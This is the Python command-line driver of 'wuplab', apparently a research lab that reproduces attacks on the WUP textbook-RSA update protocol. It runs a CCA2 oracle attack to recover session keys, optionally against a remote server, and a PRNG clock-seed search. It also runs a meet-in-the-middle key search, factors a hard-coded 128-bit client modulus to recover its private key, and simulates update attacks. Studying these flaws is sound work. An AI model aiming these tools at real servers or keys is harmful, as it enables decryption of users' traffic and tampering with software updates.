"""``wuplab`` command line.

Exit codes: 0 success, 1 attack or scenario failed, 2 usage or input
error, 3 oracle unreachable. With ``--json`` every subcommand prints one
JSON document with timestamps and wall times left out, so output is
reproducible for a fixed ``--seed``.
"""

from __future__ import annotations

import argparse
import json
import logging
import random
import sys
import time
from pathlib import Path

from . import __version__
from .attacks import (
    SeedNotInWindow,
    TableTooLarge,
    cca2_attack,
    mitm_attack,
    mitm_build_table,
    mitm_cost,
    prng_attack,
    recover_private_key,
    split_probability,
)
from .numtheory import DomainError, FactoringBudgetExhausted, NotCompositeError, factorize, parse_decimal
from .oracle_server import Oracle, OracleConfig, OracleUnavailable, TcpOracle, parse_address, serve_tcp
from .rsa_core import RsaKeyPair, RsaPublicKey, encrypt_raw, keygen, read_key, save_key
from .update_sim import ScenarioError, ScriptedAttackError, builtin_scenarios, load_scenario, run_scenario
from .victim_prng import SessionKey, keygen_v65
from .wup_protocol import MessageKind, Scheme, WupMessage, seal_session

log = logging.getLogger("wuplab")

EXIT_OK, EXIT_FAILED, EXIT_USAGE, EXIT_UNREACHABLE = 0, 1, 2, 3

# The 128-bit RSA modulus hard-coded in the v6.3 client.
V63_MODULUS = 245406417573740884710047745869965023463


class UsageError(Exception):
    pass


def _emit(args, data: dict, text: str) -> None:
    out = json.dumps(data, indent=2, sort_keys=True) if args.json else text
    if args.output:
        Path(args.output).write_text(out + "\n")
    else:
        print(out)


def _rng(args, salt: int = 0) -> random.Random:
    return random.Random(args.seed * 7919 + salt)


def _victim_session(pub: RsaPublicKey, rng: random.Random, scheme: Scheme = Scheme.TEXTBOOK):
    key = SessionKey(rng.getrandbits(128).to_bytes(16, "big"))
    msg = WupMessage.build(MessageKind.REQUEST, imei="861234567890123", qua="ADRQB_6.5")
    return key, seal_session(pub, key, msg, scheme=scheme, rng=rng)


def _load_pair(path: str | None, args, bits: int = 1024) -> RsaKeyPair:
    if path is None:
        return keygen(bits, rng=_rng(args, 1))
    key = read_key(path)
    if not isinstance(key, RsaKeyPair):
        raise UsageError(f"{path} holds only a public key; a private key is needed here")
    return key


# -- subcommands ----------------------------------------------------------------------

def cmd_keygen(args) -> int:
    pair = keygen(args.bits, args.e, rng=_rng(args))
    if args.key_out:
        save_key(args.key_out, pair)
        save_key(args.key_out + ".pub", pair.public)
    data = {"bits": pair.public.bits, "e": pair.e, "n": str(pair.n),
            "private_key_file": args.key_out, "public_key_file": args.key_out and args.key_out + ".pub"}
    _emit(args, data, f"{pair.public.bits}-bit key, e={pair.e}\nn = {pair.n}"
          + (f"\nwritten to {args.key_out} and {args.key_out}.pub" if args.key_out else ""))
    return EXIT_OK


def cmd_serve_oracle(args) -> int:
    pair = _load_pair(args.key, args)
    cfg = OracleConfig(pair, respond_on_valid=not args.silent,
                       scheme=Scheme.OAEP if args.oaep else Scheme.TEXTBOOK,
                       artificial_latency_ms=args.latency_ms)
    with serve_tcp(cfg, parse_address(args.bind)) as service:
        host, port = service.address
        print(f"oracle listening on {host}:{port} ({cfg.scheme.value})", flush=True)
        try:
            deadline = time.monotonic() + args.duration if args.duration else None
            while deadline is None or time.monotonic() < deadline:
                time.sleep(0.2)
        except KeyboardInterrupt:
            pass
        if args.transcript:
            service.transcript.export_jsonl(args.transcript)
        print(f"served {len(service.transcript)} queries, {service.transcript.accepted} accepted", flush=True)
    return EXIT_OK


def cmd_attack_cca2(args) -> int:
    rng = _rng(args, 2)
    scheme = Scheme.OAEP if args.oaep else Scheme.TEXTBOOK
    if args.oracle:
        if not args.key:
            raise UsageError("--oracle needs --key with the server's public key")
        key = read_key(args.key)
        pub = key.public if isinstance(key, RsaKeyPair) else key
        oracle = TcpOracle(parse_address(args.oracle), timeout=args.timeout)
        server = None
    else:
        pair = _load_pair(args.key, args)
        pub = pair.public
        server = Oracle(OracleConfig(pair, scheme=scheme))
        oracle = server
    true_key, target = _victim_session(pub, rng, scheme)
    res = cca2_attack(target, oracle, pub)
    ok = res.recovered and res.recovered_key == true_key
    data = res.to_json(include_time=args.timing)
    data.update(victim_key=true_key.hex(), success=ok, scheme=scheme.value)
    if server is not None:
        data["oracle_accepted"] = server.transcript.accepted
    _emit(args, data, f"cca2: {'recovered' if ok else 'FAILED'} key {res.recovered_key.hex()} "
          f"(victim {true_key.hex()}) in {res.queries} queries")
    return EXIT_OK if ok else EXIT_FAILED


def cmd_attack_prng(args) -> int:
    rng = _rng(args, 3)
    offset = args.offset if args.offset is not None else rng.randint(-args.radius, args.radius)
    observed_at = args.observed_at
    seed_ms = observed_at + offset
    pub = keygen(1024, rng=_rng(args, 1)).public
    key = keygen_v65(seed_ms)
    msg = WupMessage.build(MessageKind.REQUEST, imei="861234567890123", qua="ADRQB_6.5")
    sess = seal_session(pub, key, msg)
    try:
        res = prng_attack(sess, observed_at, args.radius)
    except SeedNotInWindow as exc:
        _emit(args, {"attack": "prng", "success": False, "offset_ms": offset, "error": str(exc)}, str(exc))
        return EXIT_FAILED
    ok = res.key == key
    data = res.to_json()
    data.update(success=ok, true_offset_ms=offset)
    _emit(args, data, f"prng: {'recovered' if ok else 'FAILED'} key {res.key.hex()} after {res.guesses} "
          f"guesses (seed offset {res.offset_ms:+d} ms)")
    return EXIT_OK if ok else EXIT_FAILED


def cmd_attack_mitm(args) -> int:
    rng = _rng(args, 4)
    pub = keygen(args.modulus_bits, rng=_rng(args, 1)).public
    try:
        table = mitm_build_table(pub, args.m1, allow_large=args.allow_large)
    except TableTooLarge as exc:
        raise UsageError(str(exc)) from None
    found = 0
    for _ in range(args.trials):
        m = rng.randint(1, 1 << args.m1) * rng.randint(1, 1 << args.m2)
        found += mitm_attack(table, encrypt_raw(pub, m), args.m2) == m
    ok = found == args.trials
    data = {"attack": "mitm", "m1": args.m1, "m2": args.m2, "table_entries": len(table),
            "trials": args.trials, "recovered": found, "success": ok}
    _emit(args, data, f"mitm: recovered {found}/{args.trials} keys of the form M1*M2 "
          f"(M1 <= 2^{args.m1}, M2 <= 2^{args.m2})")
    return EXIT_OK if ok else EXIT_FAILED


def cmd_split_prob(args) -> int:
    est = split_probability(args.bits, args.m1, args.m2, args.samples, rng=args.seed, budget=args.budget)
    _emit(args, est.to_json(), f"P(split | {args.bits} bits, m1={args.m1}, m2={args.m2}) = "
          f"{100 * est.probability:.1f}% ({est.successes}/{est.samples}, {est.skipped} skipped)")
    return EXIT_OK


def cmd_mitm_cost(args) -> int:
    cost = mitm_cost(args.m1, args.m2, args.key_bits)
    _emit(args, cost.to_json(), f"table: {cost.table_bytes_human}; work: 2^{args.m2} modular exponentiations")
    return EXIT_OK


def cmd_factor(args) -> int:
    n = parse_decimal(args.n) if args.n else V63_MODULUS
    try:
        if args.key:
            pair = recover_private_key(RsaPublicKey(n, args.e), args.budget)
            primes = [pair.p, pair.q]
        else:
            primes = factorize(n, budget=args.budget).primes
    except FactoringBudgetExhausted as exc:
        _emit(args, {"n": str(n), "success": False, "error": str(exc)}, f"factor: {exc}")
        return EXIT_FAILED
    except NotCompositeError as exc:
        raise UsageError(str(exc)) from None
    data = {"n": str(n), "factors": [str(p) for p in primes], "success": True}
    text = f"{n} = " + " * ".join(map(str, primes))
    if args.key:
        save_key(args.key, pair)
        data["private_key_file"] = args.key
        text += f"\nrecovered private key written to {args.key}"
    _emit(args, data, text)
    return EXIT_OK


def cmd_update_sim(args) -> int:
    if args.scenario:
        scenarios = [load_scenario(p) for p in args.scenario]
    else:
        available = builtin_scenarios()
        names = args.builtin or sorted(available)
        missing = [n for n in names if n not in available]
        if missing:
            raise UsageError(f"unknown scenario(s) {missing}; available: {sorted(available)}")
        scenarios = [available[n] for n in names]
    results = [run_scenario(s) for s in scenarios]
    ok = all(r.matched for r in results)
    lines = []
    for r in results:
        detail = r.actual.get("reason") or r.actual.get("role") or r.actual.get("package") or ""
        lines.append(f"{'PASS' if r.matched else 'FAIL'} {r.scenario.name}: {r.actual['kind']} {detail}".rstrip())
        lines += [f"    {m}" for m in r.mismatches]
    _emit(args, {"success": ok, "scenarios": [r.to_json() for r in results]}, "\n".join(lines))
    return EXIT_OK if ok else EXIT_FAILED


def cmd_demo_all(args) -> int:
    """Every attack in sequence, small enough to finish in about a minute."""
    steps: list[dict] = []

    def step(name: str, ok: bool, **info) -> None:
        steps.append({"step": name, "success": ok, **info})
        if not args.json:
            print(f"[{'ok' if ok else 'FAIL'}] {name}: " + ", ".join(f"{k}={v}" for k, v in info.items()),
                  flush=True)

    pair = keygen(1024, rng=_rng(args, 1))
    step("keygen", True, bits=pair.public.bits)

    primes = factorize(V63_MODULUS).primes
    step("factor v6.3 modulus", len(primes) == 2, factors=[str(p) for p in primes])

    with serve_tcp(OracleConfig(pair)) as service:
        true_key, target = _victim_session(pair.public, _rng(args, 2))
        res = cca2_attack(target, TcpOracle(service.address), pair.public)
        step("cca2 over tcp", res.recovered and res.recovered_key == true_key, queries=res.queries)

    oaep = Oracle(OracleConfig(pair, scheme=Scheme.OAEP))
    true_key, target = _victim_session(pair.public, _rng(args, 5), Scheme.OAEP)
    res = cca2_attack(target, oaep, pair.public)
    step("cca2 vs oaep (remediation)", not res.recovered and oaep.transcript.accepted == 0,
         accepted=oaep.transcript.accepted)

    rng = _rng(args, 3)
    offset = rng.randint(-35_000, 35_000)
    now = 1_400_000_000_000
    key = keygen_v65(now + offset)
    sess = seal_session(pair.public, key, WupMessage.build(MessageKind.REQUEST, qua="ADRQB_6.5"))
    pres = prng_attack(sess, now, 35_000)
    step("prng seed search", pres.key == key, guesses=pres.guesses, offset_ms=offset)

    toy = keygen(512, rng=_rng(args, 6)).public
    table = mitm_build_table(toy, 10)
    trials, found = 20, 0
    for _ in range(trials):
        m = rng.randint(1, 1 << 10) * rng.randint(1, 1 << 10)
        found += mitm_attack(table, encrypt_raw(toy, m), 10) == m
    step("mitm (20-bit keys)", found == trials, recovered=f"{found}/{trials}")
    step("mitm cost (64, 64, 128)", True, table=mitm_cost(64, 64, 128).table_bytes_human)

    est = split_probability(64, 32, 32, samples=500, rng=args.seed)
    step("split probability (64, 32, 32)", True, probability=round(est.probability, 3), samples=est.samples)

    for name, sc in builtin_scenarios().items():
        r = run_scenario(sc)
        step(f"update scenario {name}", r.matched, outcome=r.actual["kind"])

    ok = all(s["success"] for s in steps)
    if args.json:
        _emit(args, {"success": ok, "steps": steps}, "")
    return EXIT_OK if ok else EXIT_FAILED


# -- parser ---------------------------------------------------------------------------

def build_parser() -> argparse.ArgumentParser:
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--seed", type=int, default=0, help="seed for every random choice (default 0)")
    common.add_argument("--json", action="store_true", help="print machine-readable JSON")
    common.add_argument("--output", "-o", help="write output to this file instead of stdout")
    common.add_argument("-v", "--verbose", action="count", default=0)

    parser = argparse.ArgumentParser(prog="wuplab", description="Attack lab for the WUP textbook-RSA protocol.")
    parser.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    sub = parser.add_subparsers(dest="command", required=True, metavar="COMMAND")

    def add(name: str, func, help: str) -> argparse.ArgumentParser:
        p = sub.add_parser(name, parents=[common], help=help, description=help)
        p.set_defaults(func=func)
        return p

    p = add("keygen", cmd_keygen, "generate an RSA key pair")
    p.add_argument("--bits", type=int, default=1024)
    p.add_argument("-e", type=int, default=65537)
    p.add_argument("--out", dest="key_out", help="write the private key here and the public key to OUT.pub")

    p = add("serve-oracle", cmd_serve_oracle, "run the WUP server as a TCP decryption oracle")
    p.add_argument("--key", help="private key file (default: generate from --seed)")
    p.add_argument("--bind", default="127.0.0.1:0", help="host:port, port 0 picks a free one")
    p.add_argument("--oaep", action="store_true", help="use the OAEP-padded variant")
    p.add_argument("--silent", action="store_true", help="never respond, even to valid requests")
    p.add_argument("--latency-ms", type=int, default=0)
    p.add_argument("--duration", type=float, default=0, help="stop after this many seconds (default: run until ^C)")
    p.add_argument("--transcript", help="write the query log here as JSON lines")

    p = add("attack-cca2", cmd_attack_cca2, "recover a victim's session key with 128 oracle queries")
    where = p.add_mutually_exclusive_group()
    where.add_argument("--in-process", action="store_true", help="attack an in-process oracle (default)")
    where.add_argument("--oracle", help="host:port of a running serve-oracle")
    p.add_argument("--key", help="server key file; public is enough with --oracle")
    p.add_argument("--oaep", action="store_true", help="victim and in-process server use OAEP")
    p.add_argument("--timeout", type=float, default=2.0)
    p.add_argument("--timing", action="store_true", help="include wall time in JSON output")

    p = add("attack-prng", cmd_attack_prng, "recover a v6.5 session key by searching clock seeds")
    p.add_argument("--offset", type=int, help="victim seed minus observation time, in ms (default: random)")
    p.add_argument("--radius", type=int, default=35_000, help="search window half-width in ms")
    p.add_argument("--observed-at", type=int, default=1_400_000_000_000)

    p = add("attack-mitm", cmd_attack_mitm, "meet-in-the-middle recovery of short split keys (toy scale)")
    p.add_argument("--m1", type=int, default=10)
    p.add_argument("--m2", type=int, default=10)
    p.add_argument("--trials", type=int, default=100)
    p.add_argument("--modulus-bits", type=int, default=512)
    p.add_argument("--allow-large", action="store_true")

    p = add("split-prob", cmd_split_prob, "estimate how often a random integer splits into two short factors")
    p.add_argument("--bits", type=int, default=64)
    p.add_argument("--m1", type=int, default=32)
    p.add_argument("--m2", type=int, default=32)
    p.add_argument("--samples", type=int, default=2000)
    p.add_argument("--budget", type=int, default=1 << 22, help="factoring budget per sample above 64 bits")

    p = add("mitm-cost", cmd_mitm_cost, "storage and work for a full-size meet-in-the-middle attack")
    p.add_argument("--m1", type=int, default=64)
    p.add_argument("--m2", type=int, default=64)
    p.add_argument("--key-bits", type=int, default=128)

    p = add("factor", cmd_factor, "factor an integer (default: the v6.3 client's 128-bit modulus)")
    p.add_argument("n", nargs="?", help="decimal integer")
    p.add_argument("--budget", type=int, default=1 << 34)
    p.add_argument("--key", help="treat n as an RSA modulus and write the recovered private key here")
    p.add_argument("-e", type=int, default=65537)

    p = add("update-sim", cmd_update_sim, "run update-attack scenarios; exit 0 iff all match expectations")
    p.add_argument("--scenario", action="append", help="scenario JSON file (repeatable)")
    p.add_argument("--builtin", action="append", help="name of a shipped scenario (default: all of them)")

    add("demo-all", cmd_demo_all, "run every attack end to end")
    return parser


def main(argv: list[str] | None = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.WARNING - 10 * min(args.verbose, 2), format="%(levelname)s %(message)s")
    try:
        return args.func(args)
    except OracleUnavailable as exc:
        print(f"wuplab: oracle unreachable: {exc}", file=sys.stderr)
        return EXIT_UNREACHABLE
    except (UsageError, ScenarioError, ScriptedAttackError, DomainError, ValueError, OSError) as exc:
        print(f"wuplab: {exc}", file=sys.stderr)
        return EXIT_USAGE


if __name__ == "__main__":
    sys.exit(main())
